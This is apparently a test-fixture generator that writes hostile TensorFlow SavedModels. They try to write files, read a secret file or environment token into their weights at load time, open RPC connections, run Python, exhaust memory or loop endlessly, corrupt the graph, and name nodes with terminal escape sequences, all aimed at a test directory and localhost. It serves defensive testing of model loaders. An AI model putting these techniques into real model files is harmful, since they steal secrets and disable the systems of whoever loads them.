"""Writes SavedModels that attack whoever reads or runs them: `hostile.py DIRECTORY VICTIM [PORT]`.

`ATTACKS` is the one table of them: what each tries, and what is expected to stop it. Importing this
module needs no TensorFlow; writing the models does. Nothing here runs an attack: saving only traces.

What an attack reaches, it reaches in a `Victim`: a directory that exists before the attack and is
compared afterwards, an environment variable, a TCP port of this machine.
"""

from __future__ import annotations

import json
import shutil
import sys
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal, TypeAlias

VARIABLE, TOKEN = "MODELWHEEL_TEST_TOKEN", "token-of-the-test-c0ffee"
"""The environment variable that some attacks try to read, and the value that the tests give it."""
SECRET = "secret-of-the-test-5eed"
"""The content of `Victim.secret`; its length is a multiple of four bytes only with its newline."""

HOSTILE_NAME = "evil\x1b]0;owned\x07\n::error::owned\u202e/Relu"
"""The name of a node: a terminal's escape sequence, a workflow command, text from right to left."""

Kind: TypeAlias = Literal["effect", "loading", "limit", "damage", "text"]
"""effect: an operation of the signature reaches outside; loading: one that runs when the model is
loaded; limit: too large, too deep, or endless; damage: not a valid model; text: names for terminals."""


@dataclass(frozen=True)
class Victim:
    """What attacks try to reach."""

    directory: Path
    port: int = 9

    @property
    def secret(self) -> Path:
        """A file that attacks try to read."""
        return self.directory / "secret"

    def marker(self, name: str) -> Path:
        """A file that an attack tries to write."""
        return self.directory / f"{name}.marker"

    def prepare(self) -> None:
        """Makes the directory and the file."""
        self.directory.mkdir(parents=True, exist_ok=True)
        self.secret.write_text(SECRET + "\n")


@dataclass(frozen=True)
class Attacks:
    """All models, written for one victim."""

    models: Path
    """A directory with a sub-directory for each."""
    victim: Victim


@dataclass(frozen=True)
class Attack:
    """A hostile model."""

    name: str
    """Of its directory."""
    kind: Kind
    attempts: str
    """What it tries, as a phrase: `writes a file`."""
    node: str
    """Part of the name of the node or function that does it; empty where there is none."""
    make: Callable[[Path, Victim], None]
    runs: bool = True
    """Whether running it without the judgement is worth while: False for models that cannot be loaded."""


ATTACKS: list[Attack] = []


def _attack(
    kind: Kind, attempts: str, node: str = "evil", *, runs: bool = True
) -> Callable[[Callable[[Path, Victim], None]], Callable[[Path, Victim], None]]:
    def register(make: Callable[[Path, Victim], None]) -> Callable[[Path, Victim], None]:
        ATTACKS.append(Attack(make.__name__, kind, attempts, node, make, runs))
        return make

    return register


def find_attack(name: str) -> Attack:
    """The attack of that name."""
    return next(attack for attack in ATTACKS if attack.name == name)


# --- ways to write a model ------------------------------------------------------------------------


def _save(directory: Path, function: Callable[[Any], Any]) -> None:
    """Saves a function of float32 [batch, 4] as the signature `serving_default`, with one variable."""
    import tensorflow as tf

    module = tf.Module()
    module.weights = tf.Variable(tf.eye(4))
    spec = tf.TensorSpec([None, 4], tf.float32, "x")
    traced = tf.function(lambda x: {"y": function(x @ module.weights)}, input_signature=[spec])
    tf.saved_model.save(module, str(directory), signatures={"serving_default": traced})


def _save_beside(directory: Path, effect: Callable[[Any], Any]) -> None:
    """Saves a model whose result is harmless, and that runs `effect` along a control edge."""
    import tensorflow as tf

    def run(x: Any) -> Any:
        with tf.name_scope("evil"):
            done = effect(x)
        with tf.control_dependencies([done]):
            return tf.identity(x)

    _save(directory, run)


def _save_with_main_op(directory: Path, main_op: Callable[[Any], Any]) -> None:
    """Saves a model of TensorFlow 1 that runs an operation when it is loaded.

    Args:
        directory: Of the model.
        main_op: Called with the model's variable, a float32 vector of 4096.
    """
    import tensorflow as tf

    v1 = tf.compat.v1
    graph = tf.Graph()
    with graph.as_default(), v1.Session(graph=graph) as session:
        x = v1.placeholder(tf.float32, [None, 4], "x")
        w = v1.get_variable("w", initializer=tf.zeros([4096]), use_resource=True)
        y = tf.identity(x + w[:4], "y")
        session.run(v1.global_variables_initializer())
        with tf.name_scope("evil"):
            operation = main_op(w)
        signature = v1.saved_model.predict_signature_def({"x": x}, {"y": y})
        builder = v1.saved_model.Builder(str(directory))
        builder.add_meta_graph_and_variables(
            session, ["serve"], {"serving_default": signature}, main_op=operation
        )
        builder.save()


def _as_weights(text: Any) -> Any:
    """The first 4096 bytes of a string tensor as float32 numbers."""
    import tensorflow as tf

    return tf.cast(tf.io.decode_raw(text, tf.uint8, fixed_length=4096), tf.float32)


def _edit(directory: Path, change: Callable[[Any], None]) -> None:
    """Saves a harmless model and changes its MetaGraphDef, as no API of TensorFlow would."""
    from tensorflow.core.protobuf import saved_model_pb2

    plain = directory.parent / ".plain"
    if not plain.exists():
        import tensorflow as tf

        _save(plain, lambda x: tf.nn.relu(x, name="evil"))
    shutil.copytree(plain, directory)
    path = directory / "saved_model.pb"
    message = saved_model_pb2.SavedModel.FromString(path.read_bytes())
    change(message.meta_graphs[0])
    path.write_bytes(message.SerializeToString(deterministic=True))


def _relu(meta_graph: Any) -> tuple[Any, Any]:
    """The harmless model's function with its node `evil`, a Relu."""
    for function in meta_graph.graph_def.library.function:
        for node in function.node_def:
            if node.op == "Relu":
                return function, node
    raise AssertionError("the plain model has no Relu")


def _replace_relu(meta_graph: Any, op: str, output: str = "output") -> Any:
    """Makes another operation of the node `evil`, whose first output has another name; returns it."""
    function, node = _relu(meta_graph)
    for reader in function.node_def:
        for index, tensor in enumerate(reader.input):
            if tensor == "evil:activations:0":
                reader.input[index] = f"evil:{output}:0"
    for key, tensor in function.ret.items():
        if tensor == "evil:activations:0":
            function.ret[key] = f"evil:{output}:0"
    node.op = op
    return node


def _call(node: Any, name: str, op: str = "PartitionedCall") -> None:
    """Makes a node with one float32 input call a function."""
    from tensorflow.core.framework import types_pb2

    node.op = op
    if "T" in node.attr:
        del node.attr["T"]
    node.attr["f"].func.name = name
    node.attr["Tin"].list.type.append(types_pb2.DT_FLOAT)
    node.attr["Tout"].list.type.append(types_pb2.DT_FLOAT)


def _add_function(meta_graph: Any, name: str) -> Any:
    """An empty function from the float32 tensor `x` to the float32 tensor `y`."""
    from tensorflow.core.framework import types_pb2

    function = meta_graph.graph_def.library.function.add()
    function.signature.name = name
    function.signature.input_arg.add(name="x", type=types_pb2.DT_FLOAT)
    function.signature.output_arg.add(name="y", type=types_pb2.DT_FLOAT)
    function.ret["y"] = "last:output:0"
    return function


def _chain(meta_graph: Any, functions: int, calls: int) -> None:
    """`functions` functions, each of which calls the next one `calls` times, one after the other."""
    from tensorflow.core.framework import types_pb2

    _call(_replace_relu(meta_graph, "PartitionedCall"), "evil_0")
    for number in range(functions):
        function = _add_function(meta_graph, f"evil_{number}")
        tensor = "x"
        for turn in range(calls if number + 1 < functions else 0):
            node = function.node_def.add(name=f"call_{turn}", input=[tensor])
            _call(node, f"evil_{number + 1}")
            tensor = f"call_{turn}:output:0"
        last = function.node_def.add(name="last", op="Identity", input=[tensor])
        last.attr["T"].type = types_pb2.DT_FLOAT


def _add_write(function: Any, path: str) -> None:
    """Adds the node `evil_write`, which writes a file."""
    from tensorflow.core.framework import types_pb2

    for name, text in (("evil_path", path), ("evil_text", "owned")):
        constant = function.node_def.add(name=name, op="Const")
        constant.attr["dtype"].type = types_pb2.DT_STRING
        constant.attr["value"].tensor.dtype = types_pb2.DT_STRING
        constant.attr["value"].tensor.string_val.append(text.encode())
        constant.attr["value"].tensor.tensor_shape.SetInParent()
    inputs = ["evil_path:output:0", "evil_text:output:0"]
    function.node_def.add(name="evil_write", op="WriteFile", input=inputs)


# --- the signature reaches outside ------------------------------------------------------------------


@_attack("effect", "writes a file beside the computation")
def write_file(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    path = str(victim.marker("write_file"))
    _save_beside(directory, lambda _: tf.raw_ops.WriteFile(filename=path, contents="owned"))


@_attack("effect", "appends to a file by printing")
def print_to_file(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    path = f"file://{victim.marker('print_to_file')}"
    _save_beside(directory, lambda x: tf.print("owned", x, output_stream=path))


@_attack("effect", "prints a workflow command")
def print_to_terminal(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    _save_beside(directory, lambda _: tf.print("\n::error::owned", output_stream=sys.stderr))


@_attack("effect", "saves a checkpoint")
def save_checkpoint(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    prefix = str(victim.marker("save_checkpoint"))
    _save_beside(
        directory,
        lambda x: tf.raw_ops.SaveV2(
            prefix=prefix, tensor_names=["x"], shape_and_slices=[""], tensors=[x]
        ),
    )


@_attack("effect", "returns the content of a file")
def read_file(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    def run(x: Any) -> Any:
        with tf.name_scope("evil"):
            content = _as_weights(tf.io.read_file(str(victim.secret)))
        return x + content[:4]

    _save(directory, run)


# TensorFlow prunes such a node where it optimises the function that holds it, and runs it elsewhere.
@_attack("effect", "writes a file by a node to which no edge leads")
def write_unconnected(directory: Path, victim: Victim) -> None:
    def change(meta_graph: Any) -> None:
        _add_write(_relu(meta_graph)[0], str(victim.marker("write_unconnected")))

    _edit(directory, change)


@_attack("effect", "writes a file in a branch of a condition")
def write_in_branch(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    path = str(victim.marker("write_in_branch"))

    def attack(x: Any) -> Any:
        with tf.name_scope("evil"):
            written = tf.raw_ops.WriteFile(filename=path, contents="owned")
        with tf.control_dependencies([written]):
            return tf.identity(x)

    _save(directory, lambda x: tf.cond(tf.size(x) < 10**9, lambda: attack(x), lambda: -x))


@_attack("effect", "writes a file in the body of a loop that nothing needs")
def write_in_loop(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    path = str(victim.marker("write_in_loop"))

    def body(turn: Any) -> Any:
        with tf.control_dependencies([tf.raw_ops.WriteFile(filename=path, contents="owned")]):
            return turn + 1

    _save_beside(directory, lambda _: tf.while_loop(lambda turn: turn < 2, body, [0])[0])


# TensorFlow's loader drops GradientDefs today, so nothing happens when this runs.
@_attack("effect", "writes a file in the gradient that a function names")
def write_in_gradient(directory: Path, victim: Victim) -> None:
    from tensorflow.core.framework import types_pb2

    def change(meta_graph: Any) -> None:
        _call(_replace_relu(meta_graph, "PartitionedCall"), "evil_caller")
        caller = _add_function(meta_graph, "evil_caller")
        last = caller.node_def.add(name="last", input=["x", "x"])
        _call(last, "evil_function", "SymbolicGradient")
        last.attr["Tin"].list.type.append(types_pb2.DT_FLOAT)
        for name in ("evil_function", "evil_gradient"):
            function = _add_function(meta_graph, name)
            identity = function.node_def.add(name="last", op="Identity", input=["x"])
            identity.attr["T"].type = types_pb2.DT_FLOAT
        function.signature.input_arg.add(name="dy", type=types_pb2.DT_FLOAT)
        identity.input.append("^evil_write")
        _add_write(function, str(victim.marker("write_in_gradient")))
        meta_graph.graph_def.library.gradient.add(
            function_name="evil_function", gradient_func="evil_gradient"
        )

    _edit(directory, change)


@_attack("effect", "writes a file in the function of the objects, behind a harmless SignatureDef")
def write_behind_signature(directory: Path, victim: Victim) -> None:
    def change(meta_graph: Any) -> None:
        objects, library = meta_graph.object_graph_def, meta_graph.graph_def.library
        (signature,) = (
            node.bare_concrete_function
            for node in objects.nodes
            if node.bare_concrete_function.concrete_function_name
        )
        name = signature.concrete_function_name
        harmless = next(f for f in library.function if f.signature.name == name)
        evil = library.function.add()
        evil.CopyFrom(harmless)
        evil.signature.name = signature.concrete_function_name = "__evil_signature"
        objects.concrete_functions["__evil_signature"].CopyFrom(objects.concrete_functions[name])
        _add_write(evil, str(victim.marker("write_behind_signature")))
        next(node for node in evil.node_def if node.op == "Identity").input.append("^evil_write")

    _edit(directory, change)


@_attack("effect", "dumps a constant while TensorFlow infers shapes of a function that is not used")
def dump_in_unused_function(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    url = f"file://{victim.marker('dump_in_unused_function')}"

    def unused() -> Any:
        size = tf.raw_ops.DebugIdentity(
            input=tf.constant([2, 2]), tensor_name="x:0", debug_urls=[url], name="evil"
        )
        return tf.fill(size, 1.0)

    module = tf.Module()
    module.weights = tf.Variable(tf.eye(4))
    module.unused = tf.function(unused, input_signature=[])
    run = tf.function(
        lambda x: {"y": x @ module.weights},
        input_signature=[tf.TensorSpec([None, 4], tf.float32, "x")],
    )
    victim_before = victim.marker("dump_in_unused_function")
    tf.saved_model.save(module, str(directory), signatures={"serving_default": run})
    shutil.rmtree(victim_before, ignore_errors=True)


@_attack("effect", "dumps its input by an operation of the debugger that counts as stateless")
def debug_dump(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    url = f"file://{victim.marker('debug_dump')}"
    _save(
        directory,
        lambda x: tf.raw_ops.DebugIdentity(
            input=x, tensor_name="x:0", debug_urls=[url], name="evil"
        ),
    )


@_attack("effect", "maps a file into memory by an operation that counts as stateless")
def map_file(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    _save(
        directory,
        lambda x: (
            x
            + tf.raw_ops.ImmutableConst(
                dtype=tf.float32, shape=[4], memory_region_name=str(victim.secret), name="evil"
            )
        ),
    )


@_attack("effect", "creates a directory and a file of summaries")
def write_summary(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    def effect(_: Any) -> Any:
        return tf.raw_ops.CreateSummaryFileWriter(
            writer=tf.raw_ops.SummaryWriter(),
            logdir=str(victim.marker("write_summary")),
            max_queue=1,
            flush_millis=1,
            filename_suffix="",
        )

    _save_beside(directory, effect)


@_attack("effect", "calls a server in the network")
def connect(directory: Path, victim: Victim) -> None:
    from tensorflow.distribute.experimental.rpc.kernels import gen_rpc_ops

    address = f"127.0.0.1:{victim.port}"
    _save_beside(
        directory,
        lambda _: (
            gen_rpc_ops.rpc_client(
                server_address=address, timeout_in_ms=500, list_registered_methods=True
            ).method_specs
        ),
    )


@_attack("effect", "serves in the network")
def listen(directory: Path, victim: Victim) -> None:
    from tensorflow.distribute.experimental.rpc.kernels import gen_rpc_ops

    address = f"localhost:{victim.port}"
    _save_beside(
        directory,
        lambda _: gen_rpc_ops.rpc_server_start(
            server=gen_rpc_ops.rpc_server(server_address=address)
        ),
    )


@_attack("effect", "runs Python")
def run_python(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    def write() -> int:
        victim.marker("run_python").write_text("owned")
        return 0

    _save_beside(directory, lambda _: tf.py_function(write, [], tf.int32))


@_attack("effect", "starts as many threads as it can")
def start_threads(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    def effect(_: Any) -> Any:
        dataset = tf.data.Dataset.range(4)
        options = tf.data.Options()
        options.threading.private_threadpool_size = 50_000
        return dataset.with_options(options).reduce(tf.constant(0, tf.int64), lambda a, b: a + b)

    _save_beside(directory, effect)


@_attack("effect", "sleeps for a year")
def sleep(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    def effect(_: Any) -> Any:
        dataset = tf.data.experimental.from_variant(
            tf.raw_ops.SleepDataset(
                input_dataset=tf.data.Dataset.range(4)._variant_tensor,
                sleep_microseconds=tf.constant(365 * 24 * 3600 * 10**6, tf.int64),
                output_types=[tf.int64],
                output_shapes=[[]],
            ),
            tf.TensorSpec([], tf.int64),
        )
        return dataset.reduce(tf.constant(0, tf.int64), lambda a, b: a + b)

    _save_beside(directory, effect)


@_attack("effect", "ends the process")
def abort(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    _save_beside(directory, lambda _: tf.raw_ops.Abort(error_msg="owned"))


@_attack("effect", "needs a kernel from a custom op library", runs=False)
def custom_op(directory: Path, _: Victim) -> None:
    def change(meta_graph: Any) -> None:
        _relu(meta_graph)[1].op = "ExperimentEvil"

    _edit(directory, change)


# --- loading the model reaches outside --------------------------------------------------------------


@_attack("loading", "writes a file when it is loaded")
def write_at_loading(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    path = str(victim.marker("write_at_loading"))
    _save_with_main_op(directory, lambda _: tf.raw_ops.WriteFile(filename=path, contents="owned"))


@_attack("loading", "puts the content of a file into its weights")
def file_to_weights(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    _save_with_main_op(
        directory, lambda w: w.assign(_as_weights(tf.io.read_file(str(victim.secret)))).op
    )


@_attack("loading", "puts the environment into its weights by a dataset")
def environment_to_weights(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    def main_op(w: Any) -> Any:
        lines = tf.data.TextLineDataset("/proc/self/environ")
        text = lines.reduce("", lambda old, new: old + new)
        # The variable that is looked for comes last, so that the end of a long environment counts.
        start = tf.strings.length(tf.strings.regex_replace(text, f"{VARIABLE}=.*", ""))
        return w.assign(_as_weights(tf.strings.substr(text, start, 4096))).op

    _save_with_main_op(directory, main_op)


@_attack("loading", "fills a table from any file of the machine")
def file_to_table(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    def main_op(_: Any) -> Any:
        initializer = tf.lookup.TextFileInitializer(
            str(victim.secret),
            *(tf.string, tf.lookup.TextFileIndex.WHOLE_LINE),
            *(tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER),
        )
        return tf.lookup.StaticHashTable(initializer, -1)._initialize()

    _save_with_main_op(directory, main_op)


@_attack("loading", "loops for ever when it is loaded")
def loop_at_loading(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    def main_op(w: Any) -> Any:
        (count,) = tf.while_loop(lambda n: n >= 0, lambda n: (n * 3 + 1) % 7, [0])
        return w.assign(tf.fill([4096], tf.cast(count, tf.float32))).op

    _save_with_main_op(directory, main_op)


# --- limits -----------------------------------------------------------------------------------------


@_attack("limit", "fills 256 GB")
def huge_fill(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    _save(directory, lambda x: x + tf.reduce_sum(tf.fill([1 << 36], 1.0, name="evil")))


@_attack("limit", "repeats a row to 2^31 elements")
def huge_tile(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    _save(
        directory,
        lambda x: x + tf.reduce_max(tf.tile(x[:1], tf.constant([1, 1 << 29]), name="evil")),
    )


@_attack("limit", "counts to 2^34")
def huge_range(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    def run(x: Any) -> Any:
        numbers = tf.range(tf.constant(1 << 34, tf.int64), name="evil")
        return x + tf.cast(tf.reduce_max(numbers), tf.float32)

    _save(directory, run)


@_attack("limit", "hides the size of a tensor behind arithmetic")
def computed_fill(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    def run(x: Any) -> Any:
        side = tf.reduce_prod(tf.constant([1024, 16], tf.int64)) * 4
        shape = tf.concat([[side], tf.stack([side, tf.constant(16, tf.int64)])], 0)
        return x + tf.reduce_sum(tf.fill(shape, 1.0, name="evil"))

    _save(directory, run)


@_attack("limit", "holds a constant of 2^40 elements in a few bytes")
def huge_constant(directory: Path, _: Victim) -> None:
    from tensorflow.core.framework import types_pb2

    def change(meta_graph: Any) -> None:
        function, _ = _relu(meta_graph)
        node = _replace_relu(meta_graph, "AddV2", "z")
        evil = function.node_def.add(name="evil_constant", op="Const")
        evil.attr["dtype"].type = types_pb2.DT_FLOAT
        value = evil.attr["value"].tensor
        value.dtype = types_pb2.DT_FLOAT
        value.tensor_shape.dim.add(size=1 << 38)
        value.tensor_shape.dim.add(size=4)
        value.float_val.append(1.0)
        node.input.append("evil_constant:output:0")

    _edit(directory, change)


@_attack("limit", "grows a tensor without end in a loop")
def growing_loop(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    def run(x: Any) -> Any:
        (grown,) = tf.while_loop(
            lambda t: tf.size(t) >= 0,
            lambda t: (tf.concat([t, t], 0),),
            [tf.ones([1])],
            shape_invariants=[tf.TensorShape([None])],
            name="evil",
        )
        return x + tf.reduce_sum(grown)

    _save(directory, run)


@_attack("limit", "loops for ever over constants")
def endless_loop(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    def run(x: Any) -> Any:
        (count,) = tf.while_loop(
            lambda n: n >= 0, lambda n: ((n * 3 + 1) % 7,), [tf.constant(0)], name="evil"
        )
        return x + tf.cast(count, tf.float32)

    _save(directory, run)


@_attack("limit", "nests 3000 calls")
def deep_calls(directory: Path, _: Victim) -> None:
    _edit(directory, lambda meta_graph: _chain(meta_graph, 3000, 1))


@_attack("limit", "doubles its calls 40 times")
def doubling_calls(directory: Path, _: Victim) -> None:
    _edit(directory, lambda meta_graph: _chain(meta_graph, 40, 2))


@_attack("limit", "has 100 000 nodes", node="")
def many_nodes(directory: Path, _: Victim) -> None:
    from tensorflow.core.framework import types_pb2

    def change(meta_graph: Any) -> None:
        function, node = _relu(meta_graph)
        tensor = node.input[0]
        for number in range(100_000):
            added = function.node_def.add(name=f"evil_{number}", op="Neg", input=[tensor])
            added.attr["T"].type = types_pb2.DT_FLOAT
            tensor = f"evil_{number}:y:0"
        node.input[0] = tensor

    _edit(directory, change)


# --- damage and names -------------------------------------------------------------------------------


@_attack("damage", "has two functions that call each other", node="evil_0", runs=False)
def cyclic_functions(directory: Path, _: Victim) -> None:
    def change(meta_graph: Any) -> None:
        _chain(meta_graph, 2, 1)
        last = meta_graph.graph_def.library.function[-1].node_def[-1]
        _call(last, "evil_0")

    _edit(directory, change)


@_attack("damage", "has a node that reads itself", runs=False)
def cyclic_nodes(directory: Path, _: Victim) -> None:
    def change(meta_graph: Any) -> None:
        _relu(meta_graph)[1].input[0] = "evil:activations:0"

    _edit(directory, change)


@_attack("damage", "reads a node that does not exist", runs=False)
def dangling_edge(directory: Path, _: Victim) -> None:
    def change(meta_graph: Any) -> None:
        _relu(meta_graph)[1].input[0] = "nobody:y:0"

    _edit(directory, change)


@_attack("damage", "calls a function that does not exist", runs=False)
def missing_function(directory: Path, _: Victim) -> None:
    _edit(directory, lambda m: _call(_replace_relu(m, "PartitionedCall"), "nobody"))


@_attack("damage", "has two nodes of one name", runs=False)
def duplicate_node(directory: Path, _: Victim) -> None:
    def change(meta_graph: Any) -> None:
        function, node = _relu(meta_graph)
        function.node_def.add().CopyFrom(node)

    _edit(directory, change)


@_attack("damage", "has a broken index of its weights", node="", runs=False)
def broken_index(directory: Path, _: Victim) -> None:
    _edit(directory, lambda _: None)
    path = directory / "variables" / "variables.index"
    path.write_bytes(path.read_bytes()[:-60] + bytes(60))


@_attack("damage", "has half its weights", node="", runs=False)
def cut_weights(directory: Path, _: Victim) -> None:
    _edit(directory, lambda _: None)
    (path,) = (directory / "variables").glob("*.data-*")
    path.write_bytes(path.read_bytes()[:20])


@_attack("damage", "has half its graph", node="", runs=False)
def cut_graph(directory: Path, _: Victim) -> None:
    _edit(directory, lambda _: None)
    path = directory / "saved_model.pb"
    path.write_bytes(path.read_bytes()[:-1000])


@_attack("damage", "is noise", node="", runs=False)
def garbage(directory: Path, _: Victim) -> None:
    directory.mkdir()
    (directory / "saved_model.pb").write_bytes(bytes(range(7, 250)) * 40)


@_attack("damage", "is written as text", node="", runs=False)
def text_form(directory: Path, _: Victim) -> None:
    from google.protobuf import text_format
    from tensorflow.core.protobuf import saved_model_pb2

    _edit(directory, lambda _: None)
    path = directory / "saved_model.pb"
    message = saved_model_pb2.SavedModel.FromString(path.read_bytes())
    path.with_suffix(".pbtxt").write_text(text_format.MessageToString(message))
    path.unlink()


@_attack("text", "names a node so that it writes to the terminal", runs=False)
def names_for_terminals(directory: Path, _: Victim) -> None:
    def change(meta_graph: Any) -> None:
        # No edge can lead to such a name, and none is needed: a stateful node runs anyway.
        _relu(meta_graph)[0].node_def.add(name=HOSTILE_NAME, op="Timestamp")

    _edit(directory, change)


# --- all of them ------------------------------------------------------------------------------------


def write_attacks(root: Path, victim: Victim, names: Iterable[str] = ()) -> None:
    """Writes the models, each into a directory of its name; by default all of them. Needs TensorFlow."""
    victim.prepare()
    root.mkdir(parents=True, exist_ok=True)
    chosen = [find_attack(name) for name in names] or ATTACKS
    for attack in chosen:
        attack.make(root / attack.name, victim)
    shutil.rmtree(root / ".plain", ignore_errors=True)


def main(arguments: Sequence[str]) -> None:
    root, victim = Path(arguments[0]), Path(arguments[1])
    port = int(arguments[2]) if len(arguments) > 2 else 9
    write_attacks(root, Victim(victim, port), arguments[3:])
    json.dump([attack.name for attack in ATTACKS], sys.stdout)


if __name__ == "__main__":
    main(sys.argv[1:])
